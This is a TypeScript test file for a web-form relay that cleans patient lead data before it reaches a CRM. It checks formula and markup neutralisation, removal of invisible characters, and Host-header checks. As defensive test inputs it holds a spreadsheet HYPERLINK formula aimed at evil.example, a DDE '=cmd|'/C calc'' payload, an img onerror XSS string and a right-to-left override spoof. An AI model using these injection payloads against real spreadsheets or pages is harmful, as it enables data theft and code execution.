/**
 * Issue 17: what reaches the CRM is safe there. Free text cannot start a spreadsheet formula or
 * open markup, invisible characters are gone, and the department and description name a
 * treatment or speciality from the site's own config, never what the browser wrote. Against a
 * real relay on 127.0.0.1; what the CRM gets is read from a fake LeadSquared.
 */
import { mkdirSync, utimesSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { crmSafeValues, neutralised, visibleValues, withoutInvisible } from "../../src/relay/lead-text";
import { createLogger } from "../../src/relay/logger";
import { PageContext } from "../../src/relay/page-context";
import { forms } from "../../src/site/config/forms";
import { type FakeCrm, startFakeCrm } from "../helpers/fake-crm";
import { appointmentBody, pageToken, postLead, startTestRelay, type TestRelay, tempDir } from "../helpers/relay";

let relay: TestRelay | undefined;
let crm: FakeCrm | undefined;
afterEach(async () => {
  await relay?.stop();
  await crm?.close();
  relay = undefined;
  crm = undefined;
});

type Attributes = Record<string, string>;

async function withCrm() {
  crm = await startFakeCrm();
  relay = await startTestRelay({
    crm: { baseUrl: crm.baseUrl, accessKey: crm.accessKey, secretKey: crm.secretKey, timeoutMs: 2000 },
  });
  return { crm, relay, token: await pageToken(relay.url) };
}

/** Posts a lead (202 expected) and gives the attributes the relay keeps for the CRM. */
async function attributesOf(r: TestRelay, token: string, body: unknown): Promise<Attributes> {
  const res = await postLead(r.url, body, { token });
  const answer = (await res.json()) as { id: string };
  expect(res.status, JSON.stringify(answer)).toBe(202);
  const row = r.running.outbox.list(undefined, 1000).find((l) => l.id === answer.id);
  return Object.fromEntries((row?.attributes ?? []).map((a) => [a.Attribute, a.Value]));
}

const person = { name: "Asha Rao", mobile: "9876543210", email: "" };
const contact = (values: Record<string, string>) => ({
  form: "contact-us",
  values: { ...person, message: "Please call me back.", ...values },
  context: {},
  honeypot: "",
});

describe("lead text for the CRM", () => {
  it("sends free text that starts like a formula with a leading apostrophe, and markup as text", async () => {
    const { crm, relay, token } = await withCrm();
    await postLead(
      relay.url,
      contact({
        name: '=HYPERLINK("https://evil.example/?"&A1,"Asha")',
        message: "@SUM(1+1) <img src=x onerror=alert(1)> <b>bold</b> </p> <!-- c --> pain < 2 days, 3 > 2",
      }),
      { token },
    );
    for (const name of ["+91 Asha", "-Asha", "@Asha", "＝Asha"]) {
      await postLead(relay.url, contact({ name }), { token });
    }
    await crm.waitFor(() => crm!.received.length === 5);
    expect(crm.valuesOf("FirstName")).toEqual([
      `'=HYPERLINK("https://evil.example/?"&A1,"Asha")`,
      "'+91 Asha",
      "'-Asha",
      "'@Asha",
      "'＝Asha",
    ]);
    expect(crm.valuesOf("Description")[0]).toBe(
      "'@SUM(1+1) < img src=x onerror=alert(1)> < b>bold< /b> < /p> < !-- c --> pain < 2 days, 3 > 2",
    );
    // Phone and e-mail are left as they are: the form's rules keep them to what they should be.
    expect(crm.valuesOf("Phone")).toEqual(Array(5).fill("9876543210"));
  });

  it("strips bidi controls and zero-width characters, keeping how Indic names are written", async () => {
    const { crm, relay, token } = await withCrm();
    // A right-to-left override makes "Asha<RLO>gpj.exe" read "Ashaexe.jpg"; zero-width spaces,
    // a word joiner, a BOM, a soft hyphen and tag characters hide text.
    const hidden = "\u202EAsha\u200B Rao\u2066\u2069\u2060\uFEFF\u00AD\u{E0041}\u{E0042}";
    // Telugu "Srinivas" with a ZWNJ after the virama (it chooses how the consonants join), and a
    // zero-width joiner where it means nothing.
    const telugu = "శ్\u200Cరీ\u200Dనివాస్";
    await postLead(
      relay.url,
      contact({ name: hidden, message: "line one\u2028line two\u200B\u2029=not a formula here" }),
      { token },
    );
    await postLead(relay.url, contact({ name: telugu }), { token });
    await crm.waitFor(() => crm!.received.length === 2);
    expect(crm.valuesOf("FirstName")).toEqual(["Asha Rao", "శ్\u200Cరీనివాస్"]);
    expect(crm.valuesOf("Description")[0]).toBe("line one\nline two\n=not a formula here");
  });

  it("checks the rules on what is visible: invisible characters do not make a name long enough", async () => {
    relay = await startTestRelay();
    const token = await pageToken(relay.url);
    const res = await postLead(
      relay.url,
      contact({ name: "A\u200B\u200B", message: "\u202E\u200B\u200B\u200B\u200B" }),
      {
        token,
      },
    );
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({
      error: "invalid",
      fields: { name: "Name must be at least 2 characters", message: "Please enter a message" },
    });
  });

  it("refuses an e-mail address a spreadsheet would read as a formula, with the form's message", async () => {
    relay = await startTestRelay();
    const token = await pageToken(relay.url);
    for (const email of ["=1+2@example.com", "+cmd@example.com", "-2@example.com"]) {
      const res = await postLead(relay.url, appointmentBody({ values: { ...person, email } }), { token });
      expect(res.status, email).toBe(400);
      expect(await res.json()).toEqual({ error: "invalid", fields: { email: "Please enter a valid email address" } });
    }
    expect(relay.running.outbox.list()).toEqual([]);
  });

  it("keeps a honeypot submission as safely as a lead (a release sends it as kept)", async () => {
    relay = await startTestRelay();
    const token = await pageToken(relay.url);
    await postLead(
      relay.url,
      {
        ...appointmentBody({ values: { ...person, name: "=cmd|'/C calc'!A0\u202E" } }),
        context: { treatment: "<script>x</script>", department: "=evil()" },
        honeypot: "x",
      },
      { token },
    );
    const [held] = relay.running.outbox.listHeld();
    const attributes = Object.fromEntries(held.attributes.map((a) => [a.Attribute, a.Value]));
    expect(attributes).toMatchObject({ FirstName: "'=cmd|'/C calc'!A0", mx_Department: "" });
  });
});

describe("the page a lead came from", () => {
  it("names the treatment from the site's config, never the browser's text", async () => {
    relay = await startTestRelay();
    const token = await pageToken(relay.url);
    const appointment = (context: Record<string, string>) => appointmentBody({ context });

    // As the treatment page sends it.
    expect(
      await attributesOf(
        relay,
        token,
        appointment({ treatment: "Heart Failure", department: "Heart Failure", speciality: "Cardiology" }),
      ),
    ).toMatchObject({
      mx_Department: "Heart Failure",
      Description: "Appointment request for Heart Failure Treatment",
    });
    // Made up: the page's speciality says which collection; its default department stands in.
    expect(
      await attributesOf(
        relay,
        token,
        appointment({ treatment: "=HYPERLINK(1)", department: "<b>Free MRI</b>", speciality: "Cardiology" }),
      ),
    ).toMatchObject({ mx_Department: "Cardiology", Description: "Appointment request for Cardiology Treatment" });
    expect(
      await attributesOf(relay, token, appointment({ treatment: "Anything at all", department: "Orthopedics" })),
    ).toMatchObject({ mx_Department: "Orthopedics", Description: "Appointment request for Orthopedics Treatment" });
    // A slug names its treatment too; case and spacing of a name do not matter.
    expect(await attributesOf(relay, token, appointment({ treatment: "treatment-for-golfers-elbow" }))).toMatchObject({
      mx_Department: "Golfer's Elbow Treatment",
    });
    expect(await attributesOf(relay, token, appointment({ treatment: "  total   KNEE replacement " }))).toMatchObject({
      mx_Department: "Total Knee Replacement",
    });
    // The page's path is the best key: it wins over whatever else the browser says.
    expect(
      await attributesOf(
        relay,
        token,
        appointment({ page: "/specialities/orthopedics/total-knee-replacement", treatment: "Heart Failure" }),
      ),
    ).toMatchObject({ mx_Department: "Total Knee Replacement" });
    expect(
      await attributesOf(
        relay,
        token,
        appointment({ page: "/specialities/orthopedics/no-such-page", department: "Cardiology" }),
      ),
    ).toMatchObject({ mx_Department: "Orthopedics" });
    // Nothing the site knows: nothing is taken from the browser.
    expect(await attributesOf(relay, token, appointment({ department: "Free MRI for everyone" }))).toMatchObject({
      mx_Department: "",
    });
  });

  it("keeps a speciality only when the site has it", async () => {
    relay = await startTestRelay();
    const token = await pageToken(relay.url);
    const enquiry = (context: Record<string, string>) => ({ form: "speciality-enquiry", values: person, context });
    expect(
      await attributesOf(relay, token, enquiry({ speciality: "Neurology", department: "Neurology" })),
    ).toMatchObject({
      mx_Department: "Neurology",
    });
    expect(await attributesOf(relay, token, enquiry({ speciality: "=cmd()", department: "=cmd()" }))).toMatchObject({
      mx_Department: "",
    });
  });

  it("reads the treatment data the build publishes, and sees a new publish without a restart", async () => {
    relay = await startTestRelay();
    const token = await pageToken(relay.url);
    const dataDir = path.join(relay.dir, "dist", "assets", "data");
    mkdirSync(dataDir, { recursive: true });
    const file = path.join(dataDir, "cardiology-sub-departments.json");
    const publish = (treatments: { slug: string; name: string }[], at: number) => {
      writeFileSync(
        file,
        JSON.stringify({ speciality: "Cardiology", location: "Hyderabad", sub_departments: treatments }),
      );
      utimesSync(file, at, at);
    };
    const ask = (treatment: string) => appointmentBody({ context: { treatment, speciality: "Cardiology" } });

    publish([{ slug: "tavi", name: "TAVI" }], 1_000_000);
    expect(await attributesOf(relay, token, ask("TAVI"))).toMatchObject({ mx_Department: "TAVI" });
    // The published file is what the site shows: a treatment only site-config still has is unknown.
    expect(await attributesOf(relay, token, ask("Heart Failure"))).toMatchObject({ mx_Department: "Cardiology" });

    publish(
      [
        { slug: "tavi", name: "TAVI" },
        { slug: "treatment-for-heart-failure-in-kukatpally", name: "Heart Failure" },
      ],
      2_000_000,
    );
    expect(await attributesOf(relay, token, ask("Heart Failure"))).toMatchObject({ mx_Department: "Heart Failure" });
  });
});

describe("who may post, without SITE_ORIGIN", () => {
  /** A post whose Host header the test chooses (fetch does not let it). */
  function postWithHost(url: string, host: string, token: string) {
    const target = new URL(url);
    return new Promise<number>((resolve, reject) => {
      const req = request(
        {
          host: target.hostname,
          port: target.port,
          method: "POST",
          path: "/api/leads",
          headers: {
            Host: host,
            Origin: `http://${host}`,
            "Content-Type": "application/json",
            Cookie: `XSRF-TOKEN=${token}`,
            "X-XSRF-TOKEN": token,
          },
        },
        (res) => {
          res.resume();
          res.on("end", () => resolve(res.statusCode ?? 0));
        },
      );
      req.on("error", reject);
      req.end(JSON.stringify(appointmentBody()));
    });
  }

  it("takes a request's own Host for the site only when it names this machine", async () => {
    relay = await startTestRelay();
    const token = await pageToken(relay.url);
    const port = new URL(relay.url).port;
    // Another site's page, or DNS rebinding aimed at a relay on someone's computer.
    expect(await postWithHost(relay.url, "evil.example", token)).toBe(403);
    expect(await postWithHost(relay.url, `evil.example:${port}`, token)).toBe(403);
    expect(relay.logs.join("\n")).toContain("SITE_ORIGIN is not set");
    // npm start, opened as localhost or 127.0.0.1.
    expect(await postWithHost(relay.url, `localhost:${port}`, token)).toBe(202);
    expect(await postWithHost(relay.url, `127.0.0.1:${port}`, token)).toBe(202);
    expect(relay.running.outbox.list()).toHaveLength(2);
  });
});

describe("lead text, function by function", () => {
  it("removes what cannot be seen, and keeps line breaks only where asked", () => {
    expect(withoutInvisible(" \u200Ba\u200Cb\u202Dc\u2028d\u0085e\u0090 ", false)).toBe("abc d e");
    expect(withoutInvisible("a\u2029b", true)).toBe("a\nb");
    // Composed: "e" and a combining acute accent are one character, as typed on another keyboard.
    expect(withoutInvisible("Re\u0301na", false)).toBe("Réna");
    // Devanagari "ksha" written with ZWJ after the virama keeps it.
    expect(withoutInvisible("क्\u200Dष", false)).toBe("क्\u200Dष");
  });

  it("neutralises formulas and markup, and nothing else", () => {
    expect(neutralised("=1+1")).toBe("'=1+1");
    expect(neutralised("'=1+1")).toBe("'=1+1");
    expect(neutralised(neutralised("<a href=x>-1</a>"))).toBe("< a href=x>-1< /a>");
    expect(neutralised("a<b and c<3, x < y, 1 <= 2")).toBe("a< b and c<3, x < y, 1 <= 2");
    expect(neutralised("Asha Rao")).toBe("Asha Rao");
  });

  it("treats text, messages and non-numbers in phone fields as free text; e-mails, options and dates as they are", () => {
    const values = visibleValues(forms.feedback, {
      name: "=x",
      mobile: "+91 98765 43210",
      email: "a@example.com",
      location: "Vizag",
      department: "ENT",
      feedback: "-\u200B1",
    });
    expect(crmSafeValues(forms.feedback, values)).toEqual({
      name: "'=x",
      mobile: "+91 98765 43210",
      email: "a@example.com",
      location: "Vizag",
      department: "ENT",
      feedback: "'-1",
    });
    expect(crmSafeValues(forms.feedback, { ...values, mobile: "=1+cmd" }).mobile).toBe("'=1+cmd");
  });
});

describe("the site's config, as the relay reads it", () => {
  it("reads a collection kept as a folder of one file per treatment when there is no build", async () => {
    const { dir, cleanup } = tempDir("page-context-");
    try {
      const config = path.join(dir, "site-config");
      const presentation = {
        id: "cardiology",
        route: "/specialities/cardiology/:slug",
        dataFile: "cardiology-sub-departments.json",
        defaultDepartment: "Cardiology",
      };
      write(path.join(config, "collections", "cardiology.presentation.json"), presentation);
      const folder = path.join(config, "collections", "cardiology-sub-departments");
      write(path.join(folder, "collection.json"), { speciality: "Cardiology", location: "Hyderabad" });
      write(path.join(folder, "tavi.json"), { slug: "tavi", name: "TAVI" });
      write(path.join(config, "specialities.json"), { specialities: [{ name: "Neurology", slug: "neurology" }] });
      write(path.join(config, "site.json"), { languages: [{ code: "en" }, { code: "te" }] });
      const logs: string[] = [];
      const pages = new PageContext({
        distDir: path.join(dir, "no-build"),
        configDir: config,
        log: createLogger({ write: (line) => logs.push(line) }),
      });
      expect(await pages.resolve({ page: "/specialities/cardiology/tavi" })).toEqual({
        treatment: "TAVI",
        department: "TAVI",
        speciality: "Cardiology",
        language: "en",
      });
      // The same page in Telugu: the lead names the treatment as the English config does, in Telugu.
      expect(await pages.resolve({ page: "/te/specialities/cardiology/tavi", language: "te" })).toEqual({
        treatment: "TAVI",
        department: "TAVI",
        speciality: "Cardiology",
        language: "te",
      });
      // A language the site does not have is not taken: the page's own stands.
      expect(await pages.resolve({ page: "/specialities/cardiology/tavi", language: "xx" })).toMatchObject({
        language: "en",
      });
      expect(await pages.resolve({ treatment: "Heart Failure", speciality: "Cardiology" })).toEqual({
        department: "Cardiology",
        speciality: "Cardiology",
        language: "en",
      });
      expect(await pages.resolve({ speciality: "neurology", department: "Neurology" })).toEqual({
        department: "Neurology",
        speciality: "Neurology",
        language: "en",
      });
      // A file that is not JSON is skipped, and said once.
      writeFileSync(path.join(folder, "broken.json"), "{");
      expect(await pages.resolve({ treatment: "tavi" })).toMatchObject({ treatment: "TAVI" });
      expect(await pages.resolve({ treatment: "tavi" })).toMatchObject({ treatment: "TAVI" });
      expect(logs.filter((l) => l.includes("Cannot read a config file"))).toHaveLength(1);
    } finally {
      cleanup();
    }
  });
});

function write(file: string, data: unknown) {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, JSON.stringify(data));
}
